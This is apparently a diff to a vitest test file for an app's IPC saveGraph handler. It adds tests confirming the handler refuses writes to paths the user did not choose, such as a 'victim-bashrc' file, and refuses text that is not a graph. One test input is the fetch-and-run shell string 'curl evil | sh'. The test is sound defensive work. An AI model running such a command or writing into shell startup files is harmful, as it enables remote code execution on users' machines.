@@ -1,9 +1,11 @@
-import { promises as fs, mkdtempSync } from 'node:fs';
+import { promises as fs, mkdtempSync, readFileSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { describe, expect, it } from 'vitest';
 import { createIpcHandlers, type Dialogs, IpcValidationError } from '../../../src-main/ipcHandlers';
 import { RecentFiles } from '../../../src-main/services/graphFiles';
+
+const GRAPH = readFileSync('resources/examples/saddle-escape.json', 'utf8');
 
 function setup(choice: { open?: string | null; save?: string | null }) {
   const d = mkdtempSync(join(tmpdir(), 'atlas-ipc-'));
@@ -40,16 +42,32 @@ describe('IPC handlers', () => {
     const result = await again.handlers.saveGraph({
       path: null,
       suggestedName: 'mine.json',
-      text: '{"a":1}',
+      text: GRAPH,
     });
     expect(result).toEqual({ path: target, name: 'mine.json' });
-    expect(await fs.readFile(target, 'utf8')).toBe('{"a":1}');
+    expect(await fs.readFile(target, 'utf8')).toBe(GRAPH);
     expect(await again.recent.list()).toEqual([target]);
+    // then Save to the same, user-chosen path needs no dialog
+    expect(
+      await again.handlers.saveGraph({ path: target, suggestedName: 'mine.json', text: GRAPH }),
+    ).toEqual(result);
     // a cancelled dialog saves nothing
     expect(
-      await handlers.saveGraph({ path: null, suggestedName: 'x.json', text: '{}' }),
+      await handlers.saveGraph({ path: null, suggestedName: 'x.json', text: GRAPH }),
     ).toBeNull();
     expect(await recent.list()).toEqual([]);
+  });
+
+  it('refuses to write where the user did not choose, or anything that is not a graph', async () => {
+    const { d, handlers } = setup({ save: null });
+    const victim = join(d, 'victim-bashrc');
+    await expect(
+      handlers.saveGraph({ path: victim, suggestedName: 'x.json', text: GRAPH }),
+    ).rejects.toThrow(/was not chosen by the user; use Save As/);
+    await expect(
+      handlers.saveGraph({ path: null, suggestedName: 'x.json', text: 'curl evil | sh' }),
+    ).rejects.toThrow(/the text is not a graph/);
+    expect(await fs.readdir(d)).toEqual([]);
   });
 
   it('opens what the dialog chose, and returns null when cancelled', async () => {
